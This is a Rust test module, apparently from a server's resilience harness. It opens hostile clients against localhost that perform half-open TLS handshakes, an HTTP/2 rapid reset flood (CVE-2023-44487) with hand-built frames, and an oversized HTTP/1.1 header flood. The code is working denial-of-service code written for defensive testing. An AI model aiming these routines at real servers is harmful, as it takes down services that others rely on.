//! Hostile clients: handshakes that do not go on, requests that are reset at once, headers without an end.
//!
//! Invariants: the attacks of a phase are spread evenly over it, and their clients have low priority, as if
//! they had a machine of their own.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use chronolith_base::thread;

use super::certificate::Client;
use crate::http::Wire;

/// Start of a record of the handshake of 512 bytes, of which 8 are sent.
const HALF_HELLO: [u8; 8] = [0x16, 3, 1, 2, 0, 1, 0, 1];
/// Connections are opened in groups, one group per this time.
const GROUP_EVERY: Duration = Duration::from_millis(10);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET https://x/` in the static table, and the header `:authority` with the value `x`.
const GET: [u8; 6] = [0x82, 0x87, 0x84, 0x41, 1, b'x'];
/// Requests of one connection that are reset.
const RESET_COUNT: u32 = 1000;
/// Header lines of 1 KiB that one connection tries to send.
const LINE_COUNT: usize = 4096;

/// Kind of hostile client.
#[derive(Debug, Clone, Copy)]
pub(super) enum Attack {
    /// The first bytes of a TLS record; the connection is kept open.
    HalfOpen,
    /// Requests of HTTP/2 over TLS, each with its reset (CVE-2023-44487).
    RapidReset,
    /// A request of HTTP/1.1 over TLS with 4 MiB of headers.
    HugeHeaders,
}

impl Attack {
    /// Name in reports.
    pub(super) fn name(self) -> &'static str {
        match self {
            Attack::HalfOpen => "half-open handshakes",
            Attack::RapidReset => "rapid reset",
            Attack::HugeHeaders => "huge headers",
        }
    }

    /// Opens `count` connections within `during` and attacks by each, until `stop`. Returns how many were
    /// opened.
    pub(super) fn run(
        self,
        client: &Client,
        port: u16,
        count: usize,
        during: Duration,
        stop: &AtomicBool,
    ) -> Result<usize> {
        thread::lower_priority_of_long_work(0);
        let start = Instant::now();
        let mut open = Vec::new();
        let mut opened = 0;
        while !stop.load(Ordering::Relaxed) {
            let part = start.elapsed().as_secs_f64() / during.as_secs_f64();
            let due = (part * count as f64) as usize;
            while opened < due.min(count) && !stop.load(Ordering::Relaxed) {
                // A server may end the connection at any time.
                open.extend(self.attack(client, port)?);
                opened += 1;
            }
            std::thread::sleep(GROUP_EVERY);
        }
        Ok(opened)
    }

    /// Attacks by one connection; returns it if it stays open.
    fn attack(self, client: &Client, port: u16) -> Result<Option<TcpStream>> {
        let ended = match self {
            Attack::HalfOpen => {
                let mut stream = TcpStream::connect(("127.0.0.1", port)).context("half-open handshake")?;
                return Ok(stream.write_all(&HALF_HELLO).is_ok().then_some(stream));
            }
            Attack::RapidReset => reset(client.with_http2()?.connect(port)?),
            Attack::HugeHeaders => send_headers(client.connect(port)?),
        };
        // An error means that the server has ended the connection, which it should.
        drop(ended);
        Ok(None)
    }
}

/// Sends requests and resets until the server ends the connection.
fn reset(mut wire: Wire) -> io::Result<()> {
    wire.write_all(PREFACE)?;
    wire.write_all(&frame(4, 0, 0, &[]))?;
    for request in 0..RESET_COUNT {
        let stream = request * 2 + 1;
        // HEADERS with END_STREAM and END_HEADERS, then RST_STREAM with CANCEL.
        wire.write_all(&[frame(1, 5, stream, &GET), frame(3, 0, stream, &8u32.to_be_bytes())].concat())?;
    }
    wire.flush()
}

fn send_headers(mut wire: Wire) -> io::Result<()> {
    wire.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n")?;
    let line = format!("x-{}: {}\r\n", "a".repeat(500), "b".repeat(500));
    for _ in 0..LINE_COUNT {
        wire.write_all(line.as_bytes())?;
    }
    wire.flush()
}

/// Frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
